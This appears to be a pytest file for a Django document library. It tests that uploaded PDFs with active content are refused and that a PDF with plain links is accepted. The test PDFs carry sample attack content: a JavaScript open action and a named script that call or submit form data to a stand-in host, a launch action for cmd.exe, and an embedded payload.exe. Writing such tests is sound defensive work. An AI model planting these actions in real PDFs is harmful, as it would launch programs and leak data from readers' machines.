"""PDFs that can act by themselves (JavaScript, launch, embedded files) are refused."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from vigil.library import services

from .factories import pdf_bytes


def pdf_with(*, open_action: str | None = None, names_js=False, attachment=False, link=False):
    """A real PDF with the active content an attacker would put in it."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    if open_action:
        action = DictionaryObject(
            {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(open_action)}
        )
        if open_action == "/JavaScript":
            action[NameObject("/JS")] = TextStringObject("app.launchURL('https://x.example/')")
        else:
            action[NameObject("/F")] = TextStringObject("cmd.exe")
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if names_js:
        script = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.submitForm('https://x.example/')"),
            }
        )
        tree = ArrayObject([TextStringObject("a"), writer._add_object(script)])
        names = DictionaryObject(
            {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): tree})}
        )
        writer._root_object[NameObject("/Names")] = writer._add_object(names)
    if attachment:
        writer.add_attachment("payload.exe", b"MZ")
    if link:
        writer.add_uri(0, "https://example.org/", [0, 0, 10, 10])
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def inspect(content: bytes):
    return services.document_inspect(file=ContentFile(content, name="opinion.pdf"))


@pytest.mark.parametrize(
    "options, named",
    [
        ({"open_action": "/JavaScript"}, "JavaScript"),
        ({"open_action": "/Launch"}, "commands that start programs"),
        ({"names_js": True}, "JavaScript"),
        ({"attachment": True}, "embedded files"),
    ],
)
def test_a_pdf_with_active_content_is_refused_saying_what_it_holds(options, named):
    with pytest.raises(ValidationError) as refused:
        inspect(pdf_with(**options))
    assert refused.value.code == "pdf_active"
    assert named in refused.value.messages[0]
    assert "Print to PDF" in refused.value.messages[0]


def test_a_plain_pdf_with_links_is_taken():
    facts = inspect(pdf_with(link=True))
    assert facts.media_type == services.PDF and facts.page_count == 1
